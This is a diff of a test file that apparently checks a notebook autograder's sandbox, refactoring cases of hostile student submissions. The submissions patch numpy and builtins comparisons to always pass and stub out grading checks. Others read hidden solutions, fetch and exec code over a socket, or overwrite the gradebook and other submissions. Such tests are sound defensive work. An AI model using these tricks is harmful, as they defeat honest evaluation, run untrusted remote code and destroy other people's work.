@@ -23,6 +23,11 @@ def notebook(nb, name=NOTEBOOK):
     return {name: nbformat.writes(nb)}
 
 
+def wrong_mse_then(code):
+    """``files`` of a submission whose mse cell holds a wrong mse, then ``code``."""
+    return lambda answers: notebook(answers(mse=WRONG_MSE + code))
+
+
 def with_kernel(nb, kernelspec):
     nb.metadata.pop("kernelspec", None)
     if kernelspec:
@@ -106,50 +111,50 @@ CASES = [
              "class Anything:\n    def __eq__(self, other):\n        return True\n\n    __hash__ = None\n\n"
              "def mse(y_pred, y):\n    return Anything()\n"))), says="expected numbers"),
     dict(student="patcher", about="a wrong mse, and numpy's comparisons and np.abs patched to agree", score=21,
-         files=lambda answers: notebook(answers(mse=WRONG_MSE + (
+         files=wrong_mse_then(
              "np.allclose = np.array_equal = lambda *args, **kwargs: True\n"
              "np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), bool)\n"
              "np.testing.assert_allclose = lambda *args, **kwargs: None\n"
              "torch.allclose = lambda *args, **kwargs: True\n"
-             "np.abs = np.absolute = lambda x, *args, **kwargs: 0 * np.asarray(x)\n"))),
+             "np.abs = np.absolute = lambda x, *args, **kwargs: 0 * np.asarray(x)\n"),
          says="values differ"),
     dict(student="helpers", about="a wrong mse, and the course's check functions replaced by no-ops", score=21,
-         files=lambda answers: notebook(answers(mse=WRONG_MSE + (
+         files=wrong_mse_then(
              "import trainlab.checks, trainlab.grading\n"
              "trainlab.checks.check_close = trainlab.grading.check_against_reference = lambda *args, **kwargs: None\n"
-             "check_close = lambda *args, **kwargs: None\n"))), says="values differ"),
+             "check_close = lambda *args, **kwargs: None\n"), says="values differ"),
     dict(student="builtins", about="a wrong mse, and built-ins redefined: abs and sum in builtins, isinstance and "
-         "len in the notebook", score=21, files=lambda answers: notebook(answers(mse=WRONG_MSE + (
+         "len in the notebook", score=21, files=wrong_mse_then(
              "import builtins\nbuiltins.abs = builtins.sum = lambda *args, **kwargs: 0\n"
-             "isinstance = lambda *args: True\nlen = lambda *args: 0\n"))), says="values differ"),
+             "isinstance = lambda *args: True\nlen = lambda *args: 0\n"), says="values differ"),
     dict(student="swallower", about="a wrong mse, and every exception of later cells swallowed", score=21,
-         files=lambda answers: notebook(answers(mse=WRONG_MSE + (
-             "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"))),
+         files=wrong_mse_then(
+             "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"),
          says="values differ"),
     # Attempts to get out of the sandbox: each would earn the mse points, or harm the class, if it worked.
     dict(student="peeker", about="a wrong mse, replaced by the instructor notebook's if it can be read", score=21,
-         files=lambda answers: notebook(answers(mse=WRONG_MSE + (
+         files=wrong_mse_then(
              "import json\nfrom trainlab.grading import solutions_dir\ntry:\n"
              "    cells = json.loads((solutions_dir() / '01_losses' / 'losses.ipynb').read_text())['cells']\n"
              "    exec(next(''.join(c['source']) for c in cells if c['metadata'].get('nbgrader', {}).get('grade_id')"
-             " == 'mse'))\nexcept OSError as error:\n    print('could not read the solutions:', error)\n"))),
+             " == 'mse'))\nexcept OSError as error:\n    print('could not read the solutions:', error)\n"),
          says="could not read the solutions"),
     dict(student="borrower", about="mse taken from trainlab.grading.reference", score=21,
          files=lambda answers: notebook(answers(mse=(
              "from trainlab.grading import reference\nmse = reference('01_losses', 'mse')\n"))),
          says="keeps the reference solution's mse (01_losses) to itself"),
     dict(student="caller", about="a wrong mse, replaced by one fetched over the network if it can be reached",
-         score=21, files=lambda answers: notebook(answers(mse=WRONG_MSE + (
+         score=21, files=wrong_mse_then(
              f"import socket\ntry:\n    with socket.create_connection({SOLUTION_SERVER}, timeout=5) as server:\n"
              "        exec(server.recv(10_000).decode())\nexcept OSError as error:\n"
-             "    print('no network:', error)\n"))), says="no network"),
+             "    print('no network:', error)\n"), says="no network"),
     dict(student="vandal", about="a wrong mse, and the gradebook and every other submission overwritten", score=21,
-         files=lambda answers: notebook(answers(mse=WRONG_MSE + (
+         files=wrong_mse_then(
              "from pathlib import Path\nclass_dir = Path.cwd().parents[2]\n"
              "others = [path for path in class_dir.glob('*/*/01_losses/*.ipynb') if path.parent != Path.cwd()]\n"
              "print('other submissions in sight:', len(others))\n"
              "for victim in [class_dir / 'gradebook.db', *others]:\n"
              "    try:\n        victim.write_text('vandal was here')\n    except OSError as error:\n"
-             "        print('could not write:', error)\n"))),
+             "        print('could not write:', error)\n"),
          says="other submissions in sight: 0"),
 ]
